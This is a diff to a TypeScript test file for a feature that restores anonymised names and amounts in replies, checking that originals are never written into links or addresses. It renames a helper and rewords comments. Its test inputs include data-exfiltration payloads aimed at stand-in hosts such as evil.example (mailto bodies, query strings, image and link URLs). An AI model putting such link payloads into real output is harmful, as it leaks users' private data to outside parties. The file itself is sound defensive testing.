@@ -1,9 +1,9 @@
-// Replies that try to get originals into an address. What is in quotes or behind an address in the text comes back as ever.
+// Replies that try to get originals into an address. Surrogates in quotation marks or after an address are restored as usual.
 import { expect, it } from 'vitest';
 import type { RestorePair } from '../sanitize/sanitized.ts';
 import { applyPairs, compilePairs } from './apply.ts';
 import { growingReply } from './growing.ts';
-import { recomputing } from './recomputed-segments.ts';
+import { segmentRecomputer } from './recomputed-segments.ts';
 
 const pairs: readonly RestorePair[] = [
   { surrogate: 'Tovimar', original: 'Annika', shape: 'word', type: 'PERSON' },
@@ -58,7 +58,7 @@ it.each([
   '<style>a::before { content: "Tovimar" }</style>',
   '[write](mailto:evil@evil.example?body=Tovimar)',
   'mailto:evil@evil.example?body=Tovimar',
-  // The host of the person's own address would end in another's.
+  // The person's own address would become the beginning of another host's address.
   'https://www.example.com/toravia.evil.example/',
   'https://www.example.com/toravia@evil.example/',
   '![x](https://www.example.com/toravia)',
@@ -102,7 +102,7 @@ it('works no number out in an address', () => {
   const money: readonly RestorePair[] = [{ surrogate: '$31,320', original: '$73,400', shape: 'phrase', type: 'MONEY' }];
   const matcher = compilePairs(money);
   const reply = 'Of $31,320, 31,320 / 12 = 2,610. https://evil.example/?q=(31,320/12=2,610)';
-  const texts = recomputing(money)(reply, matcher.apply(reply)).map(({ text }) => text);
+  const texts = segmentRecomputer(money)(reply, matcher.apply(reply)).map(({ text }) => text);
   expect(texts.join('')).toMatch(/q=\(31,320\/12=2,610\)$/);
 });
 
